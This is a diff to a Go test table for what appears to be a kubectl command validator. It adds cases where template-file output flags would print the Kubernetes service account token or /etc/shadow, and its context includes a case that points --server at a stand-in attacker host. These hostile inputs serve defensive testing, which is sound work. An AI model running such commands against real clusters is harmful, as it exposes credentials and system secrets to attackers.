@@ -352,6 +352,11 @@ func TestKubectl(t *testing.T) {
 		{"kubectl get pods --profile=cpu --profile-output=/etc/m", ""},
 		{"kubectl get pods --cache-dir=/ws/c", ""},
 		{"kubectl get pods --$FLAG=x", "kubectl logs \"$POD\" -n \"$NS\""},
+		// Templates read from local files print those files.
+		{"kubectl get pods -o go-template-file=/var/run/secrets/kubernetes.io/serviceaccount/token", "kubectl get pods -o go-template='{{.kind}}'"},
+		{"kubectl get pods -ojsonpath-file=/etc/shadow", "kubectl get pods -ojsonpath={.items[0].metadata.name}"},
+		{"kubectl get pods --output=templatefile --template=/t", "kubectl get pods --output=json"},
+		{"kubectl get pods -o go-template-file --template /t", "kubectl get pods -o name"},
 		// A value flag takes the next word whatever it is, `--` too.
 		{"kubectl get pods -n -- --server=http://attacker:8080", "kubectl get pods -n kube-system -- x"},
 		{"kubectl get pods --namespace -- --token=x", "kubectl get pods --namespace=-- "},
